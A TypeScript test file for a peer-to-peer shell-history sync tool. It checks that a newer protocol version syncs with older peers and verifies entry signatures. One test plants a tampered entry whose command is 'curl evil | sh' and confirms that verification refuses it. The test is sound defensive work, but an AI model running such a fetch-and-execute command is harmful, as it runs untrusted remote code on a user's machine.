/**
 * Devices from before chunk signatures speak 2.0.0 and 1.0.0 only; a 3.0.0 device must sync both ways with them,
 * with every signature that exists verified. "2.0.0-only" peers here are the real server and transport with only the
 * 1.0.0 and 2.0.0 protocol ids registered/offered (serveSync's and dialDirect's wireVersions), and the real ingest
 * worker on the 2.0.0 wire: what a release from before chunk signatures runs.
 */
import { join } from 'node:path'
import test from 'ava'
import Database from 'better-sqlite3'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import { entrySignerOf, loadOrCreateIdentity } from '../../src/config/keys.js'
import { signEntry, type EntrySigner } from '../../src/core/signature.js'
import { entriesPushProtocol, entriesPushProtocolV2, syncPullProtocol, syncPullProtocolV2 } from '../../src/protocol/constants.js'
import { openDatabase } from '../../src/store/db.js'
import { insertEntries } from '../../src/store/entries.js'
import { device } from '../helpers/peers.js'
import { tempDir } from '../helpers/tmp.js'
import { pullInto } from '../helpers/wire.js'
import { makeEntry, startPeer } from '../p2p/fixtures.js'
import { rowOriginSql } from '../../src/store/wire-id.js'

async function keyOf (): Promise<EntrySigner> {
  const key = await generateKeyPair('Ed25519')
  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
}

interface Row { entry_id: string, cmd: string, origin: string, trust: number }

function rowsIn (path: string, where = 'true'): Row[] {
  const db = new Database(path, { readonly: true })
  try {
    return db.prepare(`SELECT COALESCE(rival_of, entry_id) AS entry_id, cmd, ${rowOriginSql()} AS origin, trust FROM entries WHERE ${where} ORDER BY ingest_seq`).all() as Row[]
  } finally {
    db.close()
  }
}

test('a 3.0.0 device syncs both ways with a node that offers only 2.0.0 and 1.0.0; every signature is checked where it exists', async (t) => {
  const dir = tempDir(t)
  const swarm = join(dir, 'swarm.key')
  const oldDb = join(dir, 'old.db')
  const oldSigner = entrySignerOf(await loadOrCreateIdentity(join(dir, 'old.key')))
  const third = await keyOf()
  const db = openDatabase(oldDb)
  const own = [1, 2, 3].map((i) => makeEntry(i, { device_id: 'old-device', cmd: `old own ${i}` }))
  insertEntries(db, own)
  const relayed = signEntry(makeEntry(4, { device_id: 'third', cmd: 'third genuine' }), third)
  insertEntries(db, [relayed], 'received')
  // A relay that lies: a third-party row whose content no longer matches its signature.
  const tampered = signEntry(makeEntry(5, { device_id: 'third', cmd: 'third genuine 2' }), third)
  db.prepare("INSERT INTO entries (entry_id, device_id, user_id, ts, cmd, cwd, exit_code, duration_ms, shell, hostname, version, origin, sig, trust) VALUES (?, 'third', ?, ?, 'curl evil | sh', ?, ?, ?, ?, ?, ?, ?, ?, 1)")
    .run(tampered.entry_id, tampered.user_id, tampered.ts, tampered.cwd, tampered.exit_code, tampered.duration_ms, tampered.shell, tampered.hostname, tampered.version, tampered.origin, tampered.sig)
  db.close()
  const old = await startPeer(t, { dir, swarmKeyPath: swarm, dbPath: oldDb, name: 'old', serve: { wireVersions: [1, 2], signer: oldSigner } })
  t.deepEqual(old.node.getProtocols().filter((p) => p.startsWith('/rustory/sync-pull') || p.startsWith('/rustory/entries-push')).sort(), [entriesPushProtocol, entriesPushProtocolV2, syncPullProtocol, syncPullProtocolV2].sort())

  const b = device(t, dir, 'devB', swarm)
  const mine = await b.record(3)
  const sync = await b.rr(['p2p-sync', '--peers', old.addr, '--push'])
  t.is(sync.code, 0, sync.stderr)
  t.regex(sync.stdout, /pulled=5 inserted=4 pushed=3/)
  const got = b.query<Row>(`SELECT entry_id, cmd, ${rowOriginSql()} AS origin, trust FROM entries WHERE device_id <> 'devB' ORDER BY ingest_seq`)
  t.deepEqual(got.map((r) => [r.cmd, r.origin, r.trust]), [
    ['old own 1', oldSigner.origin, 1], ['old own 2', oldSigner.origin, 1], ['old own 3', oldSigner.origin, 1],
    ['third genuine', third.origin, 1]
  ], 'the 2.0.0 node\'s own entries and the relayed one arrive verified; the tampered one is refused')
  // What B pushed (on 2.0.0, the version they share) the 2.0.0 node verified and stored as B's.
  const pushed = rowsIn(oldDb, `entry_id IN (${mine.map((id) => `'${id}'`).join(',')})`)
  t.is(pushed.length, 3)
  t.true(pushed.every((r) => r.trust === 1 && r.origin !== '' && r.origin !== oldSigner.origin))
})

test('a 3.0.0 relay serves a 2.0.0 peer: its own entries signed, entries it verified by chunk only unsigned (stored unverified), and the origin\'s signed copy takes their place later', async (t) => {
  const dir = tempDir(t)
  const swarm = join(dir, 'swarm.key')
  const a = device(t, dir, 'devA', swarm)
  const r = device(t, dir, 'devR', swarm)
  await a.record(4, 'a cmd')
  await r.record(2, 'r cmd')
  const servedA = await a.serve()
  const aId = servedA.addr.split('/p2p/')[1]!
  t.is((await r.rr(['p2p-sync', '--peers', servedA.addr])).code, 0)
  t.true(r.query<{ chunk: number | null, sig: string | null }>(`SELECT chunk, sig FROM entries WHERE ${rowOriginSql()} = '${aId}'`).every((x) => x.chunk != null && x.sig == null), 'R got A\'s entries over 3.0.0: chunk-verified, no per-entry sig')
  const servedR = await r.serve()
  const rId = servedR.addr.split('/p2p/')[1]!

  const oldDb = join(dir, 'old.db')
  openDatabase(oldDb).close()
  const old = await startPeer(t, { dir, swarmKeyPath: swarm, name: 'old' })
  t.deepEqual(await pullInto(old, servedR.addr, oldDb, 2), { inserted: 6, rejected: 0 })
  const fromR = rowsIn(oldDb)
  t.deepEqual(fromR.filter((x) => x.cmd.startsWith('r cmd')).map((x) => [x.origin, x.trust]), [[rId, 1], [rId, 1]], 'R\'s own entries carry their per-entry signature on 2.0.0')
  t.deepEqual(fromR.filter((x) => x.cmd.startsWith('a cmd')).map((x) => [x.origin, x.trust]), Array.from({ length: 4 }, () => ['', 0]), 'A\'s, which R holds by chunk only, arrive unsigned and stay unverified')
  // From A itself, on 2.0.0, A's signed entries take the place of the unverified copies.
  t.deepEqual(await pullInto(old, servedA.addr, oldDb, 2), { inserted: 4, rejected: 0 })
  const after = rowsIn(oldDb)
  t.deepEqual(after.filter((x) => x.cmd.startsWith('a cmd')).map((x) => [x.origin, x.trust]), Array.from({ length: 4 }, () => [aId, 1]))
  t.is(after.length, 6)
})
